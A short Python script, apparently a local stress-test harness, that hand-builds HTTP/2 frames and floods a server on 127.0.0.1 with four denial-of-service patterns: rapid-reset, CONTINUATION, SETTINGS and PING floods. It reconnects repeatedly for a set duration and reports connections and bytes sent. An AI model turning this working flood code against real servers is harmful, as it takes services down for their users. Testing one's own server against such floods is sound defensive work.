"""HTTP/2 frames by hand, and the floods that are made of them."""
import socket
import ssl
import struct
import sys
import time


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    return bytes([len(value)]) + value


def get_flags(tls):
    return (b"\x82" + (b"\x87" if tls else b"\x86") + b"\x04" + text(b"/api/v1/flags/") + b"\x01" + text(b"test")
            + b"\x00" + text(b"x-environment-key") + text(b"demo"))


def connect(port, tls):
    connection = socket.create_connection(("127.0.0.1", port), 5)
    if tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(connection, server_hostname="localhost")
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    return connection


def rapid_reset(tls):
    headers = get_flags(tls)
    for first in range(1, 200_001, 100):
        yield b"".join(frame(1, 5, s, headers) + frame(3, 0, s, b"\0\0\0\x08") for s in range(first, first + 100, 2))


def continuation(tls):
    yield frame(1, 0, 1, get_flags(tls))
    for _ in range(3000):
        yield frame(9, 0, 1) * 100


def settings(_):
    for _ in range(3000):
        yield frame(4, 0, 0) * 100


def ping(_):
    for _ in range(3000):
        yield frame(6, 0, 0, bytes(8)) * 100


FLOODS = {"rapid-reset": rapid_reset, "continuation": continuation, "settings": settings, "ping": ping}

if __name__ == "__main__":
    # frames.py FLOOD PORT clear|tls SECONDS: one connection after another, as fast as the server ends them.
    flood, port, tls, end = FLOODS[sys.argv[1]], int(sys.argv[2]), sys.argv[3] == "tls", time.monotonic() + float(sys.argv[4])
    connections = sent = 0
    while time.monotonic() < end:
        try:
            connection = connect(port, tls)
            connections += 1
            for burst in flood(tls):
                connection.sendall(burst)
                sent += len(burst)
                if time.monotonic() > end:
                    break
            connection.close()
        except OSError:
            pass
    print(f"{connections} connections, {sent / 1_000_000:.0f} MB of frames")
